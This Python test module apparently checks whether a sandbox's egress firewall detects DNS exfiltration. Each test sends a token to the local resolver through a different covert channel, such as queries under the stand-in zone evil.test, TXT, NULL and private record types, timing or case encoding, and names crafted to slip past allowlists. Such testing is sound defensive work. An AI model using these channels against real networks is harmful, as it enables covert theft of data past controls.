"""Data in DNS questions to the container's own resolver."""
import socket
import struct
import time

from common import *

IODINE = "iodine (github.com/yarrick/iodine)"


def ask(message):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.sendto(message, RESOLVER)
        return listen(sock)


@row("dns.name", "CVE-2024-29018 (moby); anthropics/claude-code#36907; coder/httpjail#53", "dns q={t}.evil.test")
def _():
    """A name under the attacker's zone, asked as every program asks."""
    socket.getaddrinfo(f"{TOKEN}.evil.test", 80)


@row("dns.txt", "dnscat2 (github.com/iagox86/dnscat2)", "dns q={t}.evil.test type=16")
def _():
    """TXT, whose answers carry most back."""
    ask(question(f"{TOKEN}.evil.test", 16))


@row("dns.null", IODINE, "dns q={t}.evil.test type=10")
def _():
    """NULL records, the first choice of a well-known tunnel."""
    ask(question(f"{TOKEN}.evil.test", 10))


@row("dns.private_type", IODINE, "dns q={t}.evil.test type=65399")
def _():
    """A private record type, which resolvers pass on unread."""
    ask(question(f"{TOKEN}.evil.test", 65399))


@row("dns.mx_srv", IODINE, "dns q={t}.evil.test type=33")
def _():
    """MX, SRV and CNAME answers as a way back."""
    for kind in (15, 5, 33):
        ask(question(f"{TOKEN}.evil.test", kind))


@row("dns.long", "DNSExfiltrator (github.com/Arno0x/DNSExfiltrator)", "dns q={t}")
def _():
    """A name of full length: some 180 bytes of payload a question."""
    ask(question([T + b"x" * 55, b"y" * 63, b"z" * 63, b"evil", b"test"]))


@row("dns.binary", IODINE, "dns")
def _():
    """Labels with all eight bits, as raw encodings use them."""
    ask(question([bytes(range(128, 180)) + T, b"evil", b"test"]))


@row("dns.tcp", "RFC 7766; dnscat2", "dns q={t}.evil.test over=tcp")
def _():
    """The resolver asked over TCP."""
    tell(*RESOLVER, framed(question(f"{TOKEN}.evil.test")))


@row("dns.edns_option", "RFC 6891; RFC 7871", "dns q=edns.example")
def _():
    """A listed name, and the data in an EDNS option."""
    option = struct.pack(">HH", 65001, len(T)) + T
    record = b"\0" + struct.pack(">HHIH", 41, 4096, 0, len(option)) + option
    ask(question("edns.example", extra=record, counts=(1, 0, 0, 1)))


@row("dns.additional", "RFC 1035, 4.1", "dns q=extra.example")
def _():
    """A listed name, and the data in a record of the additional section."""
    record = labels("x") + struct.pack(">HHIH", 16, 1, 0, len(T) + 1) + bytes([len(T)]) + T
    ask(question("extra.example", extra=record, counts=(1, 0, 0, 1)))


@row("dns.trailing", "RFC 1035, 4.1", "dns q=extra.example")
def _():
    """A listed name, and the data behind the message's end."""
    ask(question("extra.example", tail=T * 4))


@row("dns.second_question", "RFC 9619", "dns q=api.example")
def _():
    """Two questions in a message, of which the first is listed."""
    second = labels(f"{TOKEN}.evil.test") + struct.pack(">HH", 1, 1)
    ask(question("api.example", extra=second, counts=(2, 0, 0, 0)))


@row("dns.pointer", "RFC 9267 (compression pointers)", "dns odd")
def _():
    """A question whose name is a pointer to the data further on."""
    message = struct.pack(">HHHHHH", 1, 0x0100, 1, 0, 0, 0) + b"\xc0\x12" + struct.pack(">HH", 1, 1)
    ask(message + labels(f"{TOKEN}.evil.test"))


@row("dns.case", "draft-vixie-dnsext-dns0x20: case as a channel", "=dns q=CaSe.ExAmPlE")
def _():
    """A listed name with data in the case of its letters."""
    ask(question("CaSe.ExAmPlE"))


@row("dns.types", "Born, Gustafson: covert channels in DNS (2010)", "=dns q=types.example type=33")
def _():
    """A listed name with data in the sequence of record types."""
    for kind in (16, 15, 33, 99, 16):
        ask(question("types.example", kind))


@row("dns.timing", "DNS timing channels (Zander et al., 2007)", "=dns q=timing.example type=1 count=24", limit=10)
def _():
    """A listed name with data in the times at which it is asked for."""
    for gap in (1, 0, 0, 1, 1, 0, 1, 0, 0, 0) * 3:
        ask(question("timing.example"))
        time.sleep(0.02 + gap * 0.05)


@row("dns.svcb", "RFC 9460; RFC 9849 (keys for ECH come in HTTPS records)", "=dns q=svcb.example type=65")
def _():
    """The HTTPS record of a listed name, with which a client would hide its next name."""
    ask(question("svcb.example", 65))


@row("dns.class", "RFC 6895", "=dns q=class.example class=3")
def _():
    """Another class than the internet's."""
    ask(question("class.example", 16, 3))


@row("dns.update", "RFC 2136", "dns op=5")
def _():
    """A dynamic update in place of a question."""
    record = labels(f"{TOKEN}.update.example") + struct.pack(">HHIH", 1, 1, 60, 4) + b"\1\2\3\4"
    ask(question("update.example", 6, flags=0x2800, extra=record, counts=(1, 0, 1, 0)))


@row("dns.notify", "RFC 1996", "dns op=4 q={t}.evil.test")
def _():
    """A notification in place of a question."""
    ask(question(f"{TOKEN}.evil.test", 6, flags=0x2000))


@row("dns.below_a_listed_name", "*.allowed taken for allowed: github/gh-aw-firewall tests", "dns q={t}.api.example")
def _():
    """A name below a listed one, where only that one is listed."""
    ask(question(f"{TOKEN}.api.example"))


@row("dns.suffix", "suffix without a dot: coder/httpjail rule tests", "dns q={t}api.example")
def _():
    """A name that ends like a listed one."""
    ask(question(f"{TOKEN}api.example"))


@row("dns.prefix", "prefix match: github/gh-aw-firewall tests", "dns q=api.example.{t}.evil.test")
def _():
    """A listed name as the beginning of another."""
    ask(question(f"api.example.{TOKEN}.evil.test"))


@row("dns.dot_in_label", "Jeitner, Shulman: Injection Attacks Reloaded (USENIX Security 2021)", "dns")
def _():
    """A dot and a NUL inside a label, which text forms read as a listed name."""
    ask(question([b"api.example\0" + T, b"evil", b"test"]))


@row("dns.reverse", "PTR as a channel: dnsteal, RFC 3596", "dns q={rev}")
def _():
    """The data as an address whose name is asked for."""
    ask(question(".".join(reversed(TOKEN)) + ".8.b.d.0.1.0.0.2.ip6.arpa", 12))
